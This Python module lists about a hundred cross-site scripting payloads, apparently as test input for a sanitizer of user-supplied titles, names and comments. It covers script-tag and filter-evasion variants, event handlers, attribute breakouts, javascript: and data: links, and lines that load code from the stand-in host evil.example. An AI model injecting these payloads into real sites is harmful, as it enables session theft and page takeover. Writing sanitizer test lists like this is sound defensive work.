"""What somebody with bad intent writes where a title, a name or a comment belongs: about a hundred ways to run code."""

CALL = "alert(1)"
_TAGS = [
    f"<script>{CALL}</script>",
    f"<ScRiPt>{CALL}</sCrIpT>",
    "<script/src=//evil.example/x.js></script>",
    f"<script\n>{CALL}</script\n>",
    f"<scr<script>ipt>{CALL}</scr</script>ipt>",
    f"<<script>{CALL}//<</script>",
    f"<script>{CALL}",
    f"\x3cscript\x3e{CALL}\x3c/script\x3e",
    f"</title><script>{CALL}</script>",
    f"</textarea><script>{CALL}</script>",
    f"</option></select><script>{CALL}</script>",
    f"--><script>{CALL}</script>",
    f"]]><script>{CALL}</script>",
    f'<noscript><p title="</noscript><img src=x onerror={CALL}>">',
    f"<svg><script>{CALL}</script></svg>",
    f"<svg/onload={CALL}>",
    f"<svg><a xlink:href=javascript:{CALL}><text>a</text></a></svg>",
    f"<svg><animate onbegin={CALL} attributeName=x dur=1s>",
    "<svg><use href=data:image/svg+xml,x#a>",
    f"<math><mi xlink:href=javascript:{CALL}>a</mi></math>",
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={CALL}&gt;">',
    f"<iframe src=javascript:{CALL}></iframe>",
    f"<iframe srcdoc='<script>{CALL}</script>'></iframe>",
    f"<object data=javascript:{CALL}></object>",
    f"<embed src=javascript:{CALL}>",
    "<base href=//evil.example/>",
    f"<meta http-equiv=refresh content='0;url=javascript:{CALL}'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    f"<style>*{{background:url(javascript:{CALL})}}</style>",
    f"<form action=javascript:{CALL}><button>a</button></form>",
    f"<button formaction=javascript:{CALL}>a</button>",
    f"<isindex action=javascript:{CALL} type=submit>",
    f"<template><script>{CALL}</script></template>",
    "<portal src=//evil.example>",
    f"<marquee onstart={CALL}>a</marquee>",
    f"<frameset onload={CALL}>",
    f"<keygen autofocus onfocus={CALL}>",
]
_HANDLERS = [
    f"<{tag} {event}={CALL}>"
    for tag, event in [
        ("img src=x", "onerror"),
        ("img src=x", "OnErRoR"),
        ("img src=x", "onerror\n"),
        ("img/src=x/", "onerror"),
        ("body", "onload"),
        ("input autofocus", "onfocus"),
        ("details open", "ontoggle"),
        ("video src=x", "onerror"),
        ("audio src=x", "onerror"),
        ("select autofocus", "onfocus"),
        ("textarea autofocus", "onfocus"),
        ("p", "onmouseover"),
        ("a href=#", "onclick"),
        ("div", "onpointerenter"),
        ("div style=x", "onanimationstart"),
        ("x", "onclick"),
        ("div", "hx-on:click"),
        ("div hx-trigger=load", "hx-on::load"),
        ("div", "hx-get"),
    ]
]
_OUT_OF_ATTRIBUTES = [
    f"{quote}{rest}"
    for quote in ('"', "'", '">', "'>", "`", '\\"', "&quot;", '\u2028"')
    for rest in (f" onmouseover={CALL} x=", f"><img src=x onerror={CALL}>")
]
_LINKS = [
    f"[klikk]({address})"
    for address in [
        f"javascript:{CALL}",
        f"JaVaScRiPt:{CALL}",
        f"java&#10;script:{CALL}",
        f"javascript&colon;{CALL}",
        f"&#106;avascript:{CALL}",
        f"\x01javascript:{CALL}",
        f"  javascript:{CALL}",
        f"vbscript:{CALL}",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "data:image/svg+xml,<svg onload=alert(1)>",
        f"javascript://%0a{CALL}",
        f"<javascript:{CALL}>",
        f"//evil.example 'x\" onclick={CALL} y=\"'",
        "file:///etc/passwd",
        f"jav\tascript:{CALL}",
    ]
] + [
    f"<javascript:{CALL}>",
    f"![x](javascript:{CALL})",
    f'![x" onerror={CALL} y="](/static/icon.svg)',
    f"[a]: javascript:{CALL}\n\n[klikk][a]",
    f'[klikk](http://a.example "" onclick={CALL})',
    f'[klikk](http://a.example/"onclick={CALL})',
    f'```"onload={CALL}\n<script>{CALL}</script>\n```',
    f"`<script>{CALL}</script>`",
    f"> <img src=x onerror={CALL}>",
    f"javascript:{CALL}",
    f"<a href=javascript:{CALL}>klikk</a>",
    f"<a href='jav&#x09;ascript:{CALL}'>klikk</a>",
    f"&lt;script&gt;{CALL}&lt;/script&gt;",
    f"&#60;script&#62;{CALL}&#60;/script&#62;",
    f"{{% include 'x' %}}{{{{ request.user }}}}<script>{CALL}</script>",
    f"+ADw-script+AD4-{CALL}+ADw-/script+AD4-",
]
PAYLOADS = [*_TAGS, *_HANDLERS, *_OUT_OF_ATTRIBUTES, *_LINKS]
